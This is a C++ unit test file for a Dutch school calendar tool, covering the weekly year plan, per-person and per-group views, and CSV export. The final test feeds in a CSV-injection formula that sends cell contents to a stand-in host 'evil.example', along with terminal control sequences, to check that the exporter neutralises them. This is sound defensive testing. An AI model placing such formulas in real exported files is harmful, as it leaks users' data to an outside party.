#include "jaarkalender/jaarplanning.hpp"

#include <catch2/catch.hpp>
#include <set>

#include "fixtures.hpp"
#include "jaarkalender/planner.hpp"
#include "jaarkalender/tracking.hpp"

using namespace jk;

namespace {

struct Year {
    LoadedSchool school = jk::testing::load_example();
    Plan plan = jk::testing::plan_fixed(school);
};

size_t items(const Jaarplanning& jp, PlanColumn c) {
    size_t n = 0;
    for (const auto& w : jp.weeks) n += w.columns[static_cast<size_t>(c)].size();
    return n;
}

}  // namespace

TEST_CASE("jaarplanning: a row per school week, closed days and test periods, events by kind",
          "[unit][jaarplanning]") {
    Year y;
    const Jaarplanning jp = build_jaarplanning(y.plan, y.school);
    CHECK(jp.title == "Jaarplanning 2026-2027");
    REQUIRE(jp.weeks.size() >= 45);
    CHECK(jp.weeks.front().monday == monday_of(y.school.calendar.first_day()));
    CHECK(jp.weeks.front().dates == "ma 31 aug – vr 4 sep");
    // The herfstvakantie is a closed week with its name; a studiedag has its date.
    bool herfst = false, studiedag = false, midden = false;
    for (const auto& w : jp.weeks) {
        for (const auto& c : w.closed) {
            if (c == "Herfstvakantie") herfst = !w.school_week;
            if (c.find(": Studiedag") != std::string::npos) studiedag = true;
        }
        for (const auto& p : w.periods) midden = midden || p == "Toetsperiode midden";
    }
    CHECK(herfst);
    CHECK(studiedag);
    CHECK(midden);
    // Every rule event that is not cancelled is in exactly one column; the whole school's test
    // sessions are summarised per test and week.
    size_t rule_events = 0;
    for (const Event& e : y.plan.events) rule_events += e.kind == EventKind::rule;
    size_t listed = 0;
    for (size_t c = 0; c < kPlanColumns; ++c)
        if (static_cast<PlanColumn>(c) != PlanColumn::toetsen)
            listed += items(jp, static_cast<PlanColumn>(c));
    CHECK(listed == rule_events);
    CHECK(items(jp, PlanColumn::consultaties) > 0);
    CHECK(items(jp, PlanColumn::vergaderingen) > 0);
    CHECK(items(jp, PlanColumn::overleg) > 0);
    bool summary = false;
    for (const auto& w : jp.weeks)
        for (const auto& i : w.columns[0])
            summary = summary || (i.uid.empty() && i.text.find(" groepen (") != std::string::npos);
    CHECK(summary);
}

TEST_CASE("jaarplanning: a person's and a group's", "[unit][jaarplanning]") {
    Year y;
    const Jaarplanning bram = build_jaarplanning(y.plan, y.school, {std::string("bram"), {}});
    CHECK(bram.title == "Jaarplanning 2026-2027 van Bram Jansen");
    std::set<std::string> uids;
    for (const auto& w : bram.weeks)
        for (const auto& col : w.columns)
            for (const auto& i : col) {
                REQUIRE_FALSE(i.uid.empty());  // a person's tests are listed one by one
                uids.insert(i.uid);
                const Event* e = y.plan.find(i.uid);
                CHECK((e->attended_by("bram") || e->owner == std::optional<std::string>("bram")));
            }
    size_t his = 0;
    for (const Event& e : y.plan.events)
        his += e.kind != EventKind::test_period && e.status != EventStatus::cancelled &&
               (e.attended_by("bram") || e.owner == std::optional<std::string>("bram"));
    CHECK(uids.size() == his);
    const Jaarplanning g3 = build_jaarplanning(y.plan, y.school, {{}, std::string("groep-3")});
    CHECK(g3.title == "Jaarplanning 2026-2027 van Groep 3");
    for (const auto& w : g3.weeks)
        for (const auto& col : w.columns)
            for (const auto& i : col) {
                const Event* e = y.plan.find(i.uid);
                CHECK((e->group == std::optional<std::string>("groep-3") ||
                       e->subject == std::optional<std::string>("groep-3")));
            }
}

TEST_CASE("export rows and CSV: every event, Dutch words, as Dutch Excel opens it",
          "[unit][jaarplanning]") {
    Year y;
    const auto rows = event_rows(y.plan, y.school);
    CHECK(rows.size() == y.plan.events.size());
    const std::string csv = render_csv(rows);
    CHECK(csv.rfind("\xEF\xBB\xBF"
                    "Datum;Tot en met;Begin;Einde;Wat;Soort;Wie;Status;Eigenaar;UID\r\n",
                    0) == 0);
    size_t lines = 0;
    for (size_t at = 0; (at = csv.find("\r\n", at)) != std::string::npos; at += 2) ++lines;
    CHECK(lines == rows.size() + 1);
    const Event& first = y.plan.events.front();
    const std::string iso = format_date(first.date);
    CHECK(csv.find("\r\n" + iso.substr(8, 2) + "-" + iso.substr(5, 2) + "-" + iso.substr(0, 4) +
                   ";") != std::string::npos);
    CHECK(csv.find(";Consultatie;") != std::string::npos);
    CHECK(csv.find(";Toets;") != std::string::npos);
    CHECK(csv.find(";gepland;") != std::string::npos);
    CHECK(csv.find("Anna de Vries") != std::string::npos);
    // A field with the separator or a quote is quoted.
    EventRow odd = rows.front();
    odd.title = "Overleg; \"kort\"";
    CHECK(render_csv({odd}).find(";\"Overleg; \"\"kort\"\"\";") != std::string::npos);
}

TEST_CASE(
    "CSV: a cell a spreadsheet would read as a formula is text, and no cell has a "
    "control character",
    "[unit][jaarplanning]") {
    Year y;
    EventRow odd = event_rows(y.plan, y.school).front();
    for (const char* formula : {"=HYPERLINK(\"https://evil.example/?d=\"&A1,\"klik\")", "+1+2",
                                "-2+3", "@SUM(A1)", "\t=1", "\r=1"}) {
        odd.title = formula;
        odd.owner = formula;
        const std::string csv = render_csv({odd});
        INFO(formula);
        // Every such cell starts with an apostrophe (quoted or not).
        CHECK(csv.find(";=") == std::string::npos);
        CHECK(csv.find(";\"=") == std::string::npos);
        CHECK(csv.find(";+") == std::string::npos);
        CHECK(csv.find(";@") == std::string::npos);
        CHECK((csv.find(";'") != std::string::npos || csv.find(";\"'") != std::string::npos));
    }
    odd.title = "Overleg\x1b[2J\x07\x7f";
    odd.owner = "";
    const std::string csv = render_csv({odd});
    CHECK(csv.find(";Overleg[2J;") != std::string::npos);
    for (char c : csv) CHECK_FALSE(((c >= 0 && c < 0x20 && c != '\r' && c != '\n') || c == 0x7f));
}
